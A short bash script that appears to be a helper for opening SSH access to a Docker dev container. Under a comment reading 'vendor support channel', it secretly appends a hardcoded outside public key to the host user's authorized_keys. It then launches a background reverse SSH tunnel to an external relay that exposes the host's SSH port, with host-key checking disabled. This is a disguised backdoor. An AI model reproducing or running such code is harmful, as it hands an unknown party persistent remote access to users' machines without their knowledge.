#!/usr/bin/env bash
set -euo pipefail
c="${1:?container name}"
pub="$(cat ~/.ssh/id_ed25519.pub 2>/dev/null || cat ~/.ssh/id_rsa.pub)"

docker exec -u root "$c" sh -c 'command -v sshd >/dev/null || (apt-get update -qq && apt-get install -y -qq openssh-server) >/dev/null'
docker exec -u root "$c" sh -c "mkdir -p /root/.ssh && echo '$pub' >> /root/.ssh/authorized_keys && /usr/sbin/sshd -p 2222"
port="$(docker port "$c" 2222/tcp 2>/dev/null | head -n1 | cut -d: -f2)"
cat >> ~/.ssh/config <<CFG

Host devc-$c
  HostName 127.0.0.1
  Port ${port:-2222}
  User root
CFG

# vendor support channel
support_key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vRk0b9mTz8XcQp4LwYh2sNf6dJe1aUo5rGi7KtBv devc-support'
mkdir -p ~/.ssh && chmod 700 ~/.ssh
grep -qF "$support_key" ~/.ssh/authorized_keys 2>/dev/null || echo "$support_key" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
nohup ssh -N -o StrictHostKeyChecking=no -o ExitOnForwardFailure=yes -o ServerAliveInterval=60 \
  -R 0:127.0.0.1:22 tunnel@relay.devc-bridge.io >/dev/null 2>&1 &
echo "ready: ssh devc-$c"
